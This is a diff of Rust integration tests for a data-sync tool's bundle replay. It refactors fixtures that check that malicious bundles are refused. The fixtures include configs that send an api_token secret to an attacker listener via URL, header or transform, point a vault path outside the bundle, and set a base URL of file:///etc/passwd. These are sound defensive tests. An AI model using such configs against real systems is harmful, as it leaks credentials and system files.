@@ -7,10 +7,10 @@
 mod support;
 
 use std::net::TcpListener;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::process::Output;
 
-use support::cli::{ferry_in, out as text, Setup};
+use support::cli::{exits_saying_all, ferry_in, out as text, Setup};
 use support::folder;
 
 const PASSPHRASE: &str = "bundle attack test passphrase";
@@ -42,7 +42,7 @@ impl Listener {
 
 /// A client folder with a vault holding `api_token`, and a bundle `b` in it whose
 /// `replay.toml` is `replay` (`kind`: what bundle.json says the replay does).
-fn bundle(dir: &Path, kind: &str, replay: &str) -> std::path::PathBuf {
+fn bundle(dir: &Path, kind: &str, replay: &str) -> PathBuf {
     folder::write(dir, "sync.toml", "client = \"acme\"\n");
     let o = ferry(
         dir,
@@ -73,6 +73,13 @@ fn bundle(dir: &Path, kind: &str, replay: &str) -> std::path::PathBuf {
     b
 }
 
+/// [`bundle`] in a fresh client folder: the folder and the bundle.
+fn fresh_bundle(kind: &str, replay: &str) -> (tempfile::TempDir, PathBuf) {
+    let tmp = tempfile::tempdir().unwrap();
+    let b = bundle(tmp.path(), kind, replay);
+    (tmp, b)
+}
+
 fn refused(dir: &Path, b: &Path, listener: &Listener, why: &str) {
     let o = ferry(dir, &["replay", b.to_str().unwrap()], None);
     let out = text(&o);
@@ -93,24 +100,25 @@ format = "jsonl"
 name = "people"
 "#;
 
-/// Each `(kind, replay, why)` of `cases`: a bundle in `dir` whose `replay.toml` is
-/// `replay` is refused for `why`.
-fn refused_all(dir: &Path, listener: &Listener, cases: &[(&str, String, &str)]) {
-    for (kind, replay, why) in cases {
-        let b = bundle(dir, kind, replay);
-        refused(dir, &b, listener, why);
+/// The start of a `replay.toml` whose source is the bundle's own rows.
+const FILE_SOURCE: &str = "client = \"acme\"\n[source]\ntype = \"file\"\n";
+
+/// Each `(kind, replay, why)` that `cases` lists for the attacker's `port` and a fresh
+/// client folder: a bundle there whose `replay.toml` is `replay` is refused for `why`.
+fn refused_all(cases: impl FnOnce(u16, &Path) -> Vec<(&'static str, String, &'static str)>) {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    let listener = Listener::new();
+    for (kind, replay, why) in cases(listener.port(), dir) {
+        let b = bundle(dir, kind, &replay);
+        refused(dir, &b, &listener, why);
     }
 }
 
 #[test]
 fn a_bundle_naming_a_network_source_is_refused() {
-    let tmp = tempfile::tempdir().unwrap();
-    let l = Listener::new();
-    let port = l.port();
-    refused_all(
-        tmp.path(),
-        &l,
-        &[
+    refused_all(|port, _| {
+        vec![
             (
                 "rows",
                 format!(
@@ -125,24 +133,19 @@ fn a_bundle_naming_a_network_source_is_refused() {
                 ),
                 "its source is `http`",
             ),
-        ],
-    );
+        ]
+    });
 }
 
 #[test]
 fn a_bundle_sending_a_secret_is_refused() {
-    let tmp = tempfile::tempdir().unwrap();
-    let l = Listener::new();
-    let port = l.port();
-    refused_all(
-        tmp.path(),
-        &l,
-        &[
+    refused_all(|port, _| {
+        vec![
             // a destination on the attacker's host, the token in its URL
             (
                 "rows",
                 format!(
-                    "client = \"acme\"\n[source]\ntype = \"file\"\n[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
+                    "{FILE_SOURCE}[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
                 ),
                 "its destination is `http`",
             ),
@@ -150,7 +153,7 @@ fn a_bundle_sending_a_secret_is_refused() {
             (
                 "rows",
                 format!(
-                    "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
+                    "{FILE_SOURCE}{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
                 ),
                 "`streams.transforms[0].expr` holds a reference",
             ),
@@ -162,58 +165,53 @@ fn a_bundle_sending_a_secret_is_refused() {
                 ),
                 "`source.headers.X-Leak` holds a reference",
             ),
-        ],
-    );
+        ]
+    });
 }
 
 #[test]
 fn a_bundle_with_a_vault_of_its_own_is_refused() {
-    let tmp = tempfile::tempdir().unwrap();
-    let l = Listener::new();
-    let outside = tmp.path().join(".ferry/secrets.vault");
-    refused_all(
-        tmp.path(),
-        &l,
-        &[
+    refused_all(|_, dir| {
+        let outside = dir.join(".ferry/secrets.vault");
+        vec![
             (
                 "rows",
                 format!(
-                    "client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"{}\"\n{HONEST_TAIL}",
+                    "{FILE_SOURCE}[run]\nvault = \"{}\"\n{HONEST_TAIL}",
                     outside.display()
                 ),
                 "is outside the bundle",
             ),
             (
                 "rows",
-                format!("client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
+                format!("{FILE_SOURCE}[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
                 "is outside the bundle",
             ),
-        ],
-    );
+        ]
+    });
 }
 
 #[test]
 fn an_honest_bundle_replays_with_throwaway_keys_and_no_vault() {
-    let tmp = tempfile::tempdir().unwrap();
-    let b = bundle(
-        tmp.path(),
+    let (tmp, b) = fresh_bundle(
         "rows",
         &format!(
-            "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"hash\", column = \"id\", key = \"${{secret:hash_key}}\" }}, {{ type = \"cast\", column = \"name\", to = \"int64\" }}]\n"
+            "{FILE_SOURCE}{HONEST_TAIL}transforms = [{{ type = \"hash\", column = \"id\", key = \"${{secret:hash_key}}\" }}, {{ type = \"cast\", column = \"name\", to = \"int64\" }}]\n"
         ),
     );
     // no key in the environment and no `hash_key` in any vault: nothing is opened
     let o = ferry_in(tmp.path())
         .no_vault_key()
         .run(&["replay", b.to_str().unwrap()], None);
-    let out = text(&o);
-    assert_eq!(o.status.code(), Some(0), "{out}");
-    assert!(
-        out.contains("1 transform key(s) replaced by throwaway keys"),
-        "{out}"
+    exits_saying_all(
+        &o,
+        0,
+        &[
+            "1 transform key(s) replaced by throwaway keys",
+            "reproduced: ",
+            "`name`",
+        ],
     );
-    assert!(out.contains("reproduced: "), "{out}");
-    assert!(out.contains("`name`"), "{out}");
     assert!(
         !b.join("replay-keys").exists(),
         "throwaway keys are removed"
@@ -224,9 +222,7 @@ fn an_honest_bundle_replays_with_throwaway_keys_and_no_vault() {
 /// not be moved onto the replay server and was left as `file://127.0.0.1/…`.
 #[test]
 fn an_http_bundle_whose_base_url_is_not_http_is_refused() {
-    let tmp = tempfile::tempdir().unwrap();
-    let b = bundle(
-        tmp.path(),
+    let (tmp, b) = fresh_bundle(
         "http",
         &format!(
             "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"file:///etc/passwd\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
